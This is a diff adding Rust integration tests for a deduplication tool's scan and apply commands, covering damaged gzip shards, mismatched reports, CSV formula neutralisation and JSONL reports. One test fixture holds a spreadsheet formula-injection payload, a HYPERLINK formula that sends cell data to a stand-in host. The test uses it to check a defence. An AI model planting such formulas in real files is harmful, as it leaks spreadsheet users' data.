@@ -263,3 +263,199 @@ fn refuses_reports_that_do_not_fit_and_outputs_that_overlap() {
     .unwrap();
     apply(&report, &out).stderr(predicates::str::contains("is not"));
 }
+
+/// A gzip shard with a damaged tail: `apply` writes the records the scan read, with their cuts,
+/// names the damage in a warning and exits 3, as the scan did.
+#[test]
+fn a_damaged_gzip_shard_is_applied_as_the_scan_read_it() {
+    let tmp = tempfile::tempdir().unwrap();
+    let corpus = tmp.path().join("corpus");
+    std::fs::create_dir(&corpus).unwrap();
+    let mut plain = String::new();
+    for i in 0..400u64 {
+        let text = format!("{}\n{PARA}\n{PARA}\n", own_words(i));
+        plain.push_str(&format!("{}\n", serde_json::json!({"id": i, "text": text})));
+    }
+    let packed = compress("s.jsonl.gz", plain.as_bytes());
+    std::fs::write(corpus.join("s.jsonl.gz"), &packed[..packed.len() * 3 / 4]).unwrap();
+    let report = tmp.path().join("r.csv");
+    let scan = dedup()
+        .args(["scan", "--detect", "repeated", "-o"])
+        .arg(&report)
+        .arg(&corpus)
+        .assert()
+        .code(3);
+    let scan_err = String::from_utf8_lossy(&scan.get_output().stderr).into_owned();
+    let damage = scan_err
+        .lines()
+        .find(|l| l.contains("the rest of the shard is not read"))
+        .expect("the scan names the damage")
+        .to_string();
+    let rows = parse(&std::fs::read(&report).unwrap());
+    let read = rows.len();
+    assert!(read > 10, "{read} rows");
+    let out = tmp.path().join("clean");
+    let apply = dedup()
+        .args(["apply", "--report"])
+        .arg(&report)
+        .arg("--out")
+        .arg(&out)
+        .arg(&corpus)
+        .assert()
+        .code(3);
+    let apply_err = String::from_utf8_lossy(&apply.get_output().stderr).into_owned();
+    // The same warning: the file, the line, the reason.
+    let tail = damage.split_once(": skipped: ").unwrap().1;
+    assert!(apply_err.contains(tail), "{apply_err}\nscan said: {damage}");
+    // Every record read is written, each with its repeat cut.
+    let written: Vec<serde_json::Value> = decompress(&out.join("s.jsonl.gz"))
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    assert_eq!(written.len(), read);
+    for (i, rec) in written.iter().enumerate() {
+        let text = format!("{}\n{PARA}\n\n", own_words(i as u64));
+        assert_eq!(rec["text"].as_str().unwrap(), text);
+    }
+}
+
+/// Sixty words of their own for record `i`: records that are not near duplicates of each other.
+fn own_words(i: u64) -> String {
+    let mut rng = Rng(i.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1);
+    (0..60)
+        .map(|_| format!("w{}", rng.below(100_000)))
+        .collect::<Vec<_>>()
+        .join(" ")
+}
+
+/// A report from another corpus with the same names is refused, and `--out` is left as it was:
+/// absent when it was absent, with only its own files when it existed.
+#[test]
+fn a_mismatched_report_leaves_out_untouched() {
+    let (tmp, corpus, report) = scanned("s.jsonl.gz", &[]);
+    // Another corpus with the same names: its note.txt has other text.
+    let other = tmp.path().join("other");
+    std::fs::create_dir_all(other.join("sub")).unwrap();
+    std::fs::copy(corpus.join("sub/s.jsonl.gz"), other.join("sub/s.jsonl.gz")).unwrap();
+    std::fs::write(
+        other.join("note.txt"),
+        format!("{OTHER}\n{OTHER}\n{PARA}\n"),
+    )
+    .unwrap();
+    for existing in [false, true] {
+        let out = tmp.path().join(format!("clean-{existing}"));
+        if existing {
+            std::fs::create_dir(&out).unwrap();
+            std::fs::write(out.join("mine.txt"), "kept").unwrap();
+        }
+        dedup()
+            .args(["apply", "--report"])
+            .arg(&report)
+            .arg("--out")
+            .arg(&out)
+            .arg(&other)
+            .assert()
+            .code(1)
+            .stderr(predicates::str::contains("note.txt"));
+        if existing {
+            assert_eq!(files_under(&out), [PathBuf::from("mine.txt")]);
+        } else {
+            assert!(!out.exists(), "--out was created");
+        }
+        // Nothing left beside it either.
+        let leftovers: Vec<_> = std::fs::read_dir(tmp.path())
+            .unwrap()
+            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+            .filter(|n| n.starts_with(".dedup"))
+            .collect();
+        assert!(leftovers.is_empty(), "{leftovers:?}");
+    }
+}
+
+/// A preview (or id) that a spreadsheet would run as a formula is written with a leading `'`,
+/// and `apply` reads it back: the check against the text still holds.
+#[test]
+fn formula_cells_are_neutralised_and_apply_still_checks_them() {
+    let tmp = tempfile::tempdir().unwrap();
+    let corpus = tmp.path().join("corpus");
+    std::fs::create_dir(&corpus).unwrap();
+    let formula = "=HYPERLINK(\"http://x.example/?\"&A1, \"Click here to see the whole list\")";
+    std::fs::write(
+        corpus.join("a.txt"),
+        format!("{PARA}\n\n{formula}\n\n{formula}\n"),
+    )
+    .unwrap();
+    let rec = serde_json::json!({"id": "-1+1", "text": format!("{STORY}\n@SUM(A1:A9) is what the sheet gives\n@SUM(A1:A9) is what the sheet gives\n")});
+    std::fs::write(corpus.join("s.jsonl"), format!("{rec}\n")).unwrap();
+    let report = tmp.path().join("r.csv");
+    dedup()
+        .args(["scan", "--no-furniture", "-o"])
+        .arg(&report)
+        .arg(&corpus)
+        .assert()
+        .success();
+    let text = std::fs::read_to_string(&report).unwrap();
+    let rows = parse(text.as_bytes());
+    assert_eq!(rows.len(), 2, "{text}");
+    assert!(rows[0].preview.starts_with("'=HYPERLINK"), "{text}");
+    assert_eq!(rows[1].id.as_deref(), Some("'-1+1"));
+    assert!(rows[1].preview.starts_with("'@SUM"), "{text}");
+    // No cell of the file starts with a formula character.
+    for line in text.lines().skip(1) {
+        for field in csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(line.as_bytes())
+            .records()
+            .next()
+            .unwrap()
+            .unwrap()
+            .iter()
+        {
+            assert!(
+                !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{field:?}"
+            );
+        }
+    }
+    let out = tmp.path().join("clean");
+    dedup()
+        .args(["apply", "--report"])
+        .arg(&report)
+        .arg("--out")
+        .arg(&out)
+        .arg(&corpus)
+        .assert()
+        .success();
+    assert_eq!(
+        std::fs::read_to_string(out.join("a.txt")).unwrap(),
+        format!("{PARA}\n\n{formula}\n\n\n")
+    );
+}
+
+/// A JSONL report is a report too: `apply` cuts the same bytes as with the CSV one.
+#[test]
+fn apply_reads_the_jsonl_report() {
+    let (tmp, corpus, csv_report) = scanned("s.jsonl.zst", &[]);
+    let jsonl_report = tmp.path().join("report.jsonl");
+    dedup()
+        .args(["scan", "--format", "jsonl", "-o"])
+        .arg(&jsonl_report)
+        .arg(&corpus)
+        .assert()
+        .success();
+    let (a, b) = (tmp.path().join("from-csv"), tmp.path().join("from-jsonl"));
+    for (report, out) in [(&csv_report, &a), (&jsonl_report, &b)] {
+        dedup()
+            .args(["apply", "--report"])
+            .arg(report)
+            .arg("--out")
+            .arg(out)
+            .arg(&corpus)
+            .assert()
+            .success();
+    }
+    for f in files_under(&a) {
+        assert_eq!(decompress(&a.join(&f)), decompress(&b.join(&f)), "{f:?}");
+    }
+    assert_eq!(files_under(&a), files_under(&b));
+}
